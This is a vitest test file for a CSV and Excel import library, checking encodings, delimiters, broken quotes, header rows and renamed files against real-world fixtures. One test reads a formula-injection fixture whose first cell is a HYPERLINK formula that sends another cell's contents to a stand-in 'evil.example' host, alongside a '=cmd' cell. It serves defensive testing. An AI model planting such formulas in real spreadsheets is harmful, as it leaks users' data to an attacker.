/** @module-tag slow */

import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { fold } from '../../src/domain/text.ts';
import { tableIn } from '../support/tables.ts';

const FOLDER = 'fixtures/realworld';

interface Expected {
  readonly encoding?: string;
  readonly delimiter?: string;
  readonly records: readonly Readonly<Record<string, unknown>>[];
}

const expected = JSON.parse(readFileSync(join(FOLDER, 'expected.json'), 'utf8')) as Readonly<Record<string, Expected>>;
const files = readdirSync(FOLDER).filter(name => name !== 'expected.json');

/** What encodings are called there, by what we call them. */
const ENCODINGS: Readonly<Record<string, string>> = {
  'UTF-8': 'utf-8',
  'UTF-8 with BOM': 'utf-8',
  'UTF-16LE': 'utf-16le',
  'Windows-1252': 'windows-1252',
  MacRoman: 'macintosh',
};

/** Texts of a record that stand in a sheet as they are, not as codes for what stands there. */
const VERBATIM = ['id', 'email', 'department', 'location', 'comment', 'phone'];

/** The names of people that the sheet has in parts, or with marks that are taken off later. */
const TAKEN_APART = ['05-ms-forms-export.xlsx'];

/** Files whose column names are questions, so that two of ours are all that is known, and what their columns stand for. */
const OWN: Readonly<Record<string, Readonly<Record<string, readonly string[]>>>> = {
  '05-ms-forms-export.xlsx': { department: ['Your department'], country: ['In which country do you work?'] },
};

test('every file of the collection has its expectations, and every expectation its file', () => {
  expect(files.sort()).toEqual(Object.keys(expected).sort());
});

describe('a sheet as it came is found as what it is', () => {
  test.each(files)('%s', async name => {
    const { encoding, delimiter, records } = expected[name]!;
    const { value: table, problems } = await tableIn(join(FOLDER, name), OWN[name]);
    if (encoding !== undefined) expect(ENCODINGS[table?.encoding ?? '']).toBe(encoding);
    if (delimiter !== undefined) expect(table?.delimiter).toBe(delimiter);
    if (encoding?.startsWith('utf-8') === false) expect(problems.map(({ code }) => code)).toContain('W106');
    const rows = table?.rows.map(({ cells }) => cells) ?? [];
    const found = records.filter(record => record['name'] !== undefined);
    for (const record of found) expect(rows.some(cells => holds(cells, record, name))).toBe(true);
    expect(JSON.stringify(table)).not.toContain('\ufffd');
  });
});

/** Whether a row has the texts of a record: each in a cell of its own, the name perhaps in two that follow each other. */
function holds(cells: readonly string[], record: Readonly<Record<string, unknown>>, file: string): boolean {
  const here = cells.map(fold);
  const pairs = here.map((cell, at) => `${cell} ${here[at + 1] ?? ''}`);
  const texts = VERBATIM.flatMap(field => (typeof record[field] === 'string' ? [fold(record[field])] : []));
  const name = fold(String(record['name']));
  return texts.every(text => here.includes(text)) && (TAKEN_APART.includes(file) || [...here, ...pairs].includes(name));
}

describe('what cannot be read is told at its row', () => {
  test('stray quotes in a cell are characters, and the rest of a broken file is told at once', async () => {
    const { value, problems } = await tableIn(join(FOLDER, '18-broken-quotes-ragged-mixed-newlines.csv'));
    expect(value?.rows[1]).toMatchObject({ row: 3 });
    expect(value?.rows[1]?.cells).toEqual(['Bernd "Bernie" Fuchs', 'bernd@example.com', 'Recht', 'DE']);
    expect(problems.map(({ code, row, column }) => ({ code, row, column }))).toEqual([
      { code: 'E005', row: 6, column: 'Abteilung' },
      { code: 'E007', row: 4, column: null },
      { code: 'E007', row: 5, column: null },
    ]);
  });

  test('keys and the labels below them are one header', async () => {
    const { value, problems } = await tableIn(join(FOLDER, '07-successfactors-udf.csv'));
    expect(value?.header.slice(0, 3)).toEqual(['STATUS', 'USERID', 'USERNAME']);
    expect(value?.rows.map(({ row }) => row)).toEqual([3, 4, 5]);
    expect(problems.map(({ code, row }) => ({ code, row }))).toEqual([{ code: 'W121', row: 2 }]);
  });

  test('a line that only names the delimiter is no row, but a line', async () => {
    const { value } = await tableIn(join(FOLDER, '12-sep-line-bom.csv'));
    expect(value?.headerRow).toBe(1);
    expect(value?.rows.map(({ row }) => [row, value.lineOf(row)])).toEqual([
      [2, 3],
      [3, 4],
    ]);
  });

  test('a CSV is read as one whatever its name says, with a warning', async () => {
    const { value, problems } = await tableIn(join(FOLDER, '20-csv-renamed-to.xlsx'));
    expect(value?.rows[0]?.cells).toEqual(['Jörg', 'DE']);
    expect(problems.map(({ code }) => code)).toEqual(['W112', 'W106']);
  });

  test('what was neutralised is read as it was', async () => {
    const { value } = await tableIn(join(FOLDER, '16-formula-injection.csv'));
    expect(value?.rows.map(({ cells }) => cells[0])).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
      '-Anna',
      '=schon maskiert',
    ]);
    expect(value?.rows[2]?.cells.at(-1)).toBe('=cmd');
  });

  test('cells of a workbook are what a person sees in it', async () => {
    const { value } = await tableIn(join(FOLDER, '05-ms-forms-export.xlsx'), OWN['05-ms-forms-export.xlsx']);
    expect(value?.rows[0]?.cells.slice(0, 5)).toEqual([
      ...['1', '2026-01-07T08:59:12', '2026-01-07T09:04:40', 'Joerg.Mueller@Example.com', 'Müller, Jörg (EXT)'],
    ]);
    expect(value?.rows.map(({ row }) => row)).toEqual([2, 3]);
  });
});
